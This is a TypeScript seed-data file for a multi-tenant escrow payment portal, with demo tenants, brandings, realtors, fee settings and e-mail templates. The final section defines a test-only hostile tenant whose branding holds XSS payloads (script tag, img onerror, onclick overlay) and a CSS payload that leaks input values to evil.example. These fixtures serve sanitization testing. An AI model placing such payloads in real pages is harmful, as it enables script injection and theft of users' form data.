/**
 * Demo data, one array per table, in insertion (foreign key) order. Ids are fixed so e2e
 * tests and docs can name them. To extend the seed, add an array here and one insert in seed.ts.
 */
import type {
  bankAccount,
  branding,
  emailTemplate,
  institutionLogo,
  office,
  realtor,
  tenant,
  tenantGroup,
  transferFeeConfig,
  transferType,
} from './schema';
import { MODULES } from '@portal/shared/constants';

type Row<T extends { $inferInsert: unknown }> = T['$inferInsert'];

/** Images are inline SVG data URLs, so the seed works with no asset files (CSP img-src needs `data:`). */
function svgDataUrl(svg: string): string {
  return `data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}`;
}

function monogram(letters: string, background: string, size = 64): string {
  return svgDataUrl(
    `<svg xmlns="http://www.w3.org/2000/svg" width="${size}" height="${size}" viewBox="0 0 64 64">` +
      `<rect width="64" height="64" rx="12" fill="${background}"/>` +
      `<text x="32" y="41" font-family="Arial, sans-serif" font-size="26" font-weight="700" fill="#fff" text-anchor="middle">${letters}</text>` +
      `</svg>`,
  );
}

function wordmark(letters: string, name: string, mark: string, text: string, fontFamily: string): string {
  return svgDataUrl(
    `<svg xmlns="http://www.w3.org/2000/svg" width="260" height="48" viewBox="0 0 260 48">` +
      `<rect width="48" height="48" rx="10" fill="${mark}"/>` +
      `<text x="24" y="32" font-family="${fontFamily}" font-size="22" font-weight="700" fill="#fff" text-anchor="middle">${letters}</text>` +
      `<text x="60" y="31" font-family="${fontFamily}" font-size="18" font-weight="700" fill="${text}">${name}</text>` +
      `</svg>`,
  );
}

export const IDS = {
  groups: {
    partners: 'a0000000-0000-4000-8000-000000000001',
    acme: 'a0000000-0000-4000-8000-000000000002',
  },
  tenants: {
    demo: 'b0000000-0000-4000-8000-000000000001',
    acme: 'b0000000-0000-4000-8000-000000000002',
    summit: 'b0000000-0000-4000-8000-000000000003',
    hostile: 'b0000000-0000-4000-8000-000000000099',
  },
  brandings: {
    default: 'c0000000-0000-4000-8000-000000000001',
    demo: 'c0000000-0000-4000-8000-000000000002',
    acme: 'c0000000-0000-4000-8000-000000000003',
    acmeRetired: 'c0000000-0000-4000-8000-000000000004',
    hostile: 'c0000000-0000-4000-8000-000000000099',
  },
  transferTypes: {
    clientTransfer: 'd0000000-0000-4000-8000-000000000001',
    clientDisbursement: 'd0000000-0000-4000-8000-000000000002',
  },
  realtors: {
    jane: 'acac00000000000000000001',
    marco: 'acac00000000000000000002',
    retired: 'acac00000000000000000003',
  },
} as const;

export const DEFAULT_PURPOSE = 'Earnest Money Deposit for Purchase';

export const tenantGroups: Row<typeof tenantGroup>[] = [
  {
    id: IDS.groups.partners,
    groupName: 'Closing Partners Network',
    logoURL: monogram('CP', '#1B2A4A'),
    groupTagline: 'Independent title and escrow, together',
    bannerColor: '#1B2A4A',
  },
  {
    id: IDS.groups.acme,
    groupName: 'Acme Holdings',
    logoURL: monogram('AH', '#7A1F2B'),
    groupTagline: 'Escrow since 1952',
    bannerColor: '#7A1F2B',
  },
];

export const tenants: Row<typeof tenant>[] = [
  {
    id: IDS.tenants.demo,
    tenantGroupId: IDS.groups.partners,
    name: 'Demo Title & Escrow',
    description: 'Title and escrow services for residential closings.',
    identifier: 'demo',
    type: 'title',
    address1: '100 Main Street',
    address2: 'Suite 200',
    city: 'Springfield',
    state: 'IL',
    zipcode: '62701',
    supportEmail: 'support@demo-title.example',
    pocPhone: '(555) 010-2000',
    routingType: 'office',
    enabledModules: [...MODULES],
  },
  {
    id: IDS.tenants.acme,
    tenantGroupId: IDS.groups.acme,
    name: 'Acme Escrow Co.',
    description: 'Escrow for buyers and sellers across Texas.',
    identifier: 'acme',
    type: 'escrow',
    address1: '2500 Commerce Boulevard',
    address2: null,
    city: 'Austin',
    state: 'TX',
    zipcode: '78701',
    supportEmail: 'help@acme-escrow.example',
    pocPhone: '(555) 010-3000',
    routingType: 'agent',
    enabledModules: [...MODULES],
  },
  {
    id: IDS.tenants.summit,
    tenantGroupId: IDS.groups.partners,
    name: 'Summit Closing Services',
    description: 'Closings in the Rocky Mountain region.',
    identifier: 'summit',
    type: 'title',
    address1: '77 Summit Avenue',
    address2: 'Floor 3',
    city: 'Denver',
    state: 'CO',
    zipcode: '80202',
    supportEmail: 'closings@summit-closing.example',
    pocPhone: '(555) 010-4000',
    routingType: 'other',
    // No message center for this tenant; it also has no branding row (the default applies).
    enabledModules: ['onboarding', 'banking', 'transfers'],
  },
];

export const brandings: Row<typeof branding>[] = [
  {
    id: IDS.brandings.default,
    tenantId: null,
    isDefault: true,
    active: true,
    description: 'Closing Portal default branding',
    logoURL: wordmark('CP', 'Closing Portal', '#2563EB', '#1F2937', 'Poppins, Arial, sans-serif'),
    faviconImgURL: monogram('CP', '#2563EB', 32),
    backgroundImageURL: null,
    header: null,
    footer: '<div class="brand-footer">Closing Portal</div>',
    registerText: 'Send your closing funds securely from your own bank account.',
    registerButtonText: 'Create Account',
    fontFamily: 'Poppins',
    fontSize: '16px',
    fontColor: '#1F2937',
    fontWeight: '400',
    backgroundColor: '#F5F7FA',
    linkColor: '#2563EB',
    buttonColor: '#2563EB',
    accentColor: '#10B981',
    customCSS: null,
  },
  {
    id: IDS.brandings.demo,
    tenantId: IDS.tenants.demo,
    active: true,
    description: 'Demo Title & Escrow',
    logoURL: wordmark('D', 'Demo Title &amp; Escrow', '#0F8B8D', '#1B2A4A', 'Poppins, Arial, sans-serif'),
    faviconImgURL: monogram('D', '#0F8B8D', 32),
    backgroundImageURL: null,
    header: '<div class="brand-header"><strong>Demo Title &amp; Escrow</strong></div>',
    footer:
      '<div class="brand-footer">Demo Title &amp; Escrow · 100 Main Street, Suite 200, Springfield, IL 62701 · (555) 010-2000</div>',
    registerText: 'Send your earnest money to Demo Title & Escrow securely, straight from your bank account.',
    registerButtonText: 'Create Account',
    fontFamily: 'Poppins',
    fontSize: '16px',
    fontColor: '#1B2A4A',
    fontWeight: '400',
    backgroundColor: '#F4F8FA',
    linkColor: '#0F8B8D',
    buttonColor: '#0F8B8D',
    accentColor: '#1B2A4A',
    customCSS: '.brand-header { letter-spacing: 0.02em; }',
  },
  {
    id: IDS.brandings.acme,
    tenantId: IDS.tenants.acme,
    active: true,
    description: 'Acme Escrow Co.',
    logoURL: wordmark('A', 'Acme Escrow Co.', '#7A1F2B', '#3B0D14', 'Georgia, serif'),
    faviconImgURL: monogram('A', '#7A1F2B', 32),
    backgroundImageURL: null,
    header: '<div class="brand-header"><strong>Acme Escrow Co.</strong> <em>Closing made simple</em></div>',
    footer: '<div class="brand-footer">Acme Escrow Co. · 2500 Commerce Boulevard, Austin, TX 78701</div>',
    registerText: 'Pay your escrow deposit to Acme Escrow Co. in minutes.',
    registerButtonText: 'Get Started',
    fontFamily: 'Georgia',
    fontSize: '17px',
    fontColor: '#3B0D14',
    fontWeight: '400',
    backgroundColor: '#FBF7F4',
    linkColor: '#A4343F',
    buttonColor: '#7A1F2B',
    accentColor: '#D4A373',
    customCSS: '.brand-header em { font-style: italic; }',
  },
  {
    // A retired branding, so `active: true` filters have something to filter out.
    id: IDS.brandings.acmeRetired,
    tenantId: IDS.tenants.acme,
    active: false,
    description: 'Acme Escrow Co. (2019, retired)',
    fontFamily: 'Times New Roman',
    buttonColor: '#000000',
  },
];

export const offices: Row<typeof office>[] = [
  { tenantId: IDS.tenants.demo, title: 'Springfield Downtown', city: 'Springfield', state: 'IL', active: true },
  { tenantId: IDS.tenants.demo, title: 'Chicago Lakeside', city: 'Chicago', state: 'IL', active: true },
  { tenantId: IDS.tenants.demo, title: 'Peoria Riverfront', city: 'Peoria', state: 'IL', active: true },
  { tenantId: IDS.tenants.demo, title: 'Decatur (closed)', city: 'Decatur', state: 'IL', active: false },
];

const acmeBrokerage = {
  name: 'Acme Realty Group',
  websiteURL: 'https://acme-realty.example',
  officePhone: '(555) 010-3100',
};

export const realtors: Row<typeof realtor>[] = [
  {
    id: IDS.realtors.jane,
    tenantId: IDS.tenants.acme,
    firstName: 'Jane',
    lastName: 'Realtor',
    displayName: 'Jane Realtor',
    displayDescription: 'Helping Austin families buy and sell homes for 12 years.',
    email: 'jane@acme-realty.example',
    mobilePhone: '+15550103001',
    landingPageURI: 'jane-realtor',
    headshotImageURL: monogram('JR', '#A4343F', 128),
    licenses: [{ state: 'TX', licenseNumber: 'TX-0654321' }],
    brokerage: acmeBrokerage,
    active: true,
  },
  {
    id: IDS.realtors.marco,
    tenantId: IDS.tenants.acme,
    firstName: 'Marco',
    lastName: 'Diaz',
    displayName: 'Marco Diaz',
    displayDescription: 'First-time buyers and investment properties in Central Texas.',
    email: 'marco@acme-realty.example',
    mobilePhone: '+15550103002',
    landingPageURI: 'marco-diaz',
    headshotImageURL: monogram('MD', '#D4A373', 128),
    licenses: [
      { state: 'TX', licenseNumber: 'TX-0712345' },
      { state: 'OK', licenseNumber: 'OK-181818' },
    ],
    brokerage: acmeBrokerage,
    active: true,
  },
  {
    id: IDS.realtors.retired,
    tenantId: IDS.tenants.acme,
    firstName: 'Pat',
    lastName: 'Former',
    displayName: 'Pat Former',
    landingPageURI: 'pat-former',
    licenses: [],
    active: false,
  },
];

export const transferTypes: Row<typeof transferType>[] = [
  {
    id: IDS.transferTypes.clientTransfer,
    name: 'Client Transfer',
    isDebit: true,
    isCredit: false,
    purpose: {
      purposes: [DEFAULT_PURPOSE, 'Down Payment', 'Closing Costs', 'Option Fee', 'Other'],
    },
  },
  {
    id: IDS.transferTypes.clientDisbursement,
    name: 'Client Disbursement',
    isDebit: false,
    isCredit: true,
    purpose: {
      purposes: ['Seller Proceeds', 'Earnest Money Refund', 'Overpayment Refund', 'Other'],
    },
  },
];

export const transferFeeConfigs: Row<typeof transferFeeConfig>[] = [
  // The client pays a $2.50 convenience fee on top of the amount.
  { tenantId: IDS.tenants.demo, clientPays: true, amountCents: 250 },
  // The tenant absorbs the fee: the client sees no convenience fee.
  { tenantId: IDS.tenants.acme, clientPays: false, amountCents: 250 },
];

function escrowAccount(tenantId: string, tenantName: string, lastFour: string): Row<typeof bankAccount> {
  return {
    tenantId,
    ownerType: 'tenant',
    bankName: 'First Platypus Bank',
    name: `${tenantName} Escrow Trust Account`,
    bankDisplayName: 'First Platypus Bank',
    description: 'Escrow trust account receiving client transfers',
    accountNumber: `******${lastFour}`,
    accountLastFourDigits: lastFour,
    accountSubtype: 'checking',
    institutionCode: 'ins_109508',
    pendingVerification: false,
    active: true,
  };
}

export const escrowAccounts: Row<typeof bankAccount>[] = [
  escrowAccount(IDS.tenants.demo, 'Demo Title & Escrow', '4321'),
  escrowAccount(IDS.tenants.acme, 'Acme Escrow Co.', '7788'),
  escrowAccount(IDS.tenants.summit, 'Summit Closing Services', '9012'),
];

/** Plaid sandbox institutions, which the sandbox bank-linking dialog imitates. */
export const institutionLogos: Row<typeof institutionLogo>[] = [
  { institutionCode: 'ins_109508', logoURL: monogram('FP', '#2E7D32') },
  { institutionCode: 'ins_109509', logoURL: monogram('FG', '#6A1B9A') },
  { institutionCode: 'ins_109510', logoURL: monogram('TF', '#00695C') },
  { institutionCode: 'ins_109511', logoURL: monogram('TB', '#C62828') },
  { institutionCode: 'ins_109512', logoURL: monogram('HB', '#37474F') },
];

/** Product-wide templates (tenant null); {{placeholders}} are filled by the e-mail job. */
export const emailTemplates: Row<typeof emailTemplate>[] = [
  {
    label: 'transfer_request',
    subject: '{{tenantName}} requests a transfer',
    bodyHtml:
      '<p>Hello {{clientFirstName}},</p><p>{{tenantName}} has requested a transfer of {{amount}} for {{propertyAddress}}.</p><p><a href="{{portalUrl}}">Open the portal</a> to send it.</p>',
  },
  {
    label: 'transfer_initiated',
    subject: 'Your transfer to {{tenantName}} has started',
    bodyHtml:
      '<p>Hello {{clientFirstName}},</p><p>Your transfer of {{amount}} to {{tenantName}} for {{propertyAddress}} is pending. Funds are expected by the next business day.</p>',
  },
  {
    label: 'transfer_receipt',
    subject: 'Receipt: transfer to {{tenantName}}',
    bodyHtml:
      '<p>Transfer receipt</p><p>Amount: {{amount}}<br>Fee: {{fee}}<br>Total: {{total}}<br>Property: {{propertyAddress}}<br>Date: {{date}}</p>',
  },
  {
    label: 'transfer_fail',
    subject: 'Your transfer to {{tenantName}} could not be completed',
    bodyHtml:
      '<p>Hello {{clientFirstName}},</p><p>Your transfer of {{amount}} could not be completed. Please contact {{tenantName}} at {{supportPhone}} or {{supportEmail}}.</p>',
  },
];

/** Test-only tenant whose branding attacks the shell; see seed({ testFixtures: true }). */
export const hostileTenant: Row<typeof tenant> = {
  id: IDS.tenants.hostile,
  name: 'Hostile Test Tenant',
  identifier: 'hostile',
  routingType: 'other',
  supportEmail: 'support@hostile.example',
  pocPhone: '(555) 010-9999',
  enabledModules: [...MODULES],
};

export const HOSTILE_HEADER =
  '<img src="x" onerror="window.__xss=\'img\'"><script>window.__xss=\'script\'</script><p>Hostile header</p>';
export const HOSTILE_CSS =
  '@import url(https://evil.example/leak.css); input[value^="a"] { background: url(https://evil.example/a) }';

export const hostileBranding: Row<typeof branding> = {
  id: IDS.brandings.hostile,
  tenantId: IDS.tenants.hostile,
  active: true,
  description: 'Hostile branding (test fixture)',
  header: HOSTILE_HEADER,
  footer:
    '<p style="position:fixed;inset:0" onclick="window.__xss=\'footer\'">Hostile footer</p><style>body{display:none}</style>',
  customCSS: HOSTILE_CSS,
  fontFamily: 'Poppins',
  buttonColor: '#333333',
};
